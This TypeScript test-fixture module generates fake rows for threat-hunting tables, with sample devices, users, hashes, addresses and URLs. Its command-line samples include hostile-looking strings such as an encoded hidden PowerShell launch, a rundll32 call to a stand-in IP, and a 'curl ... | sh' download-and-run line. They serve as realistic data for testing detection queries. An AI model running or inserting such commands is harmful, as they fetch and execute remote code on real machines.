import type { HuntingColumn, HuntingTable } from '@merlon/contract';
import { now } from '../testing/fixtures.ts';

/** Plausible rows of any hunting table: a handful of devices, people, files and addresses that meet again in every table, so that joins find something. */
export function plausibleRow(table: HuntingTable, index: number): Record<string, unknown> {
  const row: Record<string, unknown> = {};
  for (const [place, column] of table.columns.entries())
    if (column.name !== 'TenantId') row[column.name] = plausibleValue(column, index, place);
  return row;
}

const device = (index: number) => index % 5;
const person = (index: number) => (index * 7) % 4;
const file = (index: number) => (index * 3) % 6;

const people = ['ann', 'bob', 'SYSTEM', 'svc-backup'];
const files = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'winword.exe', 'curl', 'svchost.exe'];
const folders = [
  'C:\\Windows\\System32',
  'C:\\Users\\ann\\AppData\\Local\\Temp',
  '/usr/bin',
  'C:\\ProgramData',
];
const commandLines = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAG4AZQB3ACkA',
  'cmd.exe /c whoami /all & net user',
  'rundll32.exe "C:\\ProgramData\\x.dll",Run http://203.0.113.7/a',
  'curl -s https://files.example.net/drop.sh | sh',
  'svchost.exe -k netsvcs -p',
];
const addresses = ['203.0.113.7', '10.0.0.5', '8.8.8.8', '192.168.1.20', '2001:db8::1', '172.16.4.9'];
const urls = [
  'https://files.example.net/drop.sh',
  'evil.example',
  'http://203.0.113.7:8080/a?x=1',
  'login.example.com',
];
const bags = [
  '{"ThreadId":"5","Description":"test","IsAudit":false,"RuleId":"r1","Values":[1,2,{"a":"b"}]}',
  '{"ActivityType":"Logon","Country":"DE","Count":3,"Nested":{"Name":"x"}}',
  '{}',
];

function hex(seed: number, length: number): string {
  let text = '';
  for (let state = seed * 2654435761 + 1; text.length < length; state = (state * 48271 + 11) % 2147483647)
    text += state.toString(16).padStart(8, '0');
  return text.slice(0, length);
}

function pick<T>(values: readonly T[], index: number): T | undefined {
  return values[index % values.length];
}

/** Times over the last 29 days, the first few rows within the last hour. */
export function plausibleTime(index: number): string {
  const minutes = index < 4 ? 10 + index * 11 : ((index * 7919) % 41_000) + 60;
  return new Date(now.getTime() - minutes * 60_000 + (index % 1000)).toISOString();
}

function plausibleValue({ name, type }: HuntingColumn, index: number, place: number): unknown {
  switch (type) {
    case 'datetime':
      return name === 'Timestamp' || index % 4 !== 0 ? plausibleTime(index) : null;
    case 'bool':
      return (index + place) % 5 === 4 ? null : (index + place) % 2 === 0;
    case 'int':
    case 'long':
      if (/Port$/.test(name)) return pick([443, 80, 3389, 445, 22], index);
      return (index + place) % 7 === 6 ? null : (index * 37 + place) % 1000;
    case 'real':
    case 'decimal':
      return (index + place) % 6 === 5 ? null : ((index * 37 + place) % 100) / 10;
    case 'timespan':
      return 36_000_000_000 * (index % 5);
    case 'dynamic':
      return dynamicValue(name, index);
    case 'guid':
      return `${hex(index, 8)}-${hex(1, 4)}-${hex(2, 4)}-${hex(3, 4)}-${hex(index + 9, 12)}`;
    case 'string':
      return textValue(name, index);
  }
}

function dynamicValue(name: string, index: number): string {
  if (/LoggedOnUsers/.test(name))
    return `[{"UserName":"${pick(people, person(index))}","DomainName":"contoso","Sid":"S-1-5-21-${person(index)}"}]`;
  if (/IPAddresses/.test(name))
    return `[{"IPAddress":"${pick(addresses, index)}","SubnetPrefix":24,"AddressType":"Private"}]`;
  if (/(Ids|Names|Tags|Types|Techniques|Categories|List)$/.test(name)) return '["T1059","a","b"]';
  return pick(bags, index) ?? '{}';
}

function textValue(name: string, index: number): string {
  if (name === 'DeviceId' || name === 'TargetDeviceId') return hex(100 + device(index), 40);
  if (/DeviceName$/.test(name)) return `pc-${device(index)}.contoso.example`;
  if (/SHA1$/.test(name)) return hex(200 + file(index), 40);
  if (/SHA256$/.test(name)) return hex(300 + file(index), 64);
  if (/MD5$/.test(name)) return hex(400 + file(index), 32);
  if (/CommandLine$/.test(name)) return pick(commandLines, index) ?? '';
  if (/FileName$/.test(name)) return pick(files, file(index)) ?? '';
  if (/FolderPath$/.test(name)) return `${pick(folders, index)}\\${pick(files, file(index))}`;
  if (/AddressV4$|IPV4$/.test(name)) return pick(addresses.slice(0, 4), index) ?? '';
  if (/IP(Address|V6)?$/.test(name)) return pick(addresses, index) ?? '';
  if (/Url(s|Domain)?$|Domain$/.test(name)) return pick(urls, index) ?? '';
  if (/Upn$|MailAddress$|EmailAddress$/.test(name)) return `${pick(people, person(index))}@contoso.example`;
  if (/Sid$/.test(name)) return `S-1-5-21-1-2-3-${1000 + person(index)}`;
  if (/ObjectId$/.test(name))
    return `${hex(500 + person(index), 8)}-0000-4000-8000-${hex(501 + person(index), 12)}`;
  if (/(Account|User)(Name|DisplayName)$/.test(name)) return pick(people, person(index)) ?? '';
  if (/AdditionalFields|RawEventData|Activity(Objects)?$|Context$/.test(name)) return pick(bags, index) ?? '';
  if (/AlertId$/.test(name)) return `da${hex(600 + (index % 8), 16)}`;
  if (/CveId$/.test(name)) return `CVE-2026-${1000 + (index % 6)}`;
  if (/Severity|Level$/.test(name)) return pick(['High', 'Medium', 'Low', 'Critical'], index) ?? '';
  if (/OSPlatform$/.test(name))
    return pick(['Windows11', 'Windows10', 'Linux', 'macOS', 'WindowsServer2022'], device(index)) ?? '';
  if (/Version$/.test(name)) return `10.0.${19_000 + (index % 50)}.${index % 9}`;
  if (/Country|Location$/.test(name)) return pick(['DE', 'US', 'NL'], index) ?? '';
  return index % 6 === 5 ? '' : `${name}-${index % 9}`;
}
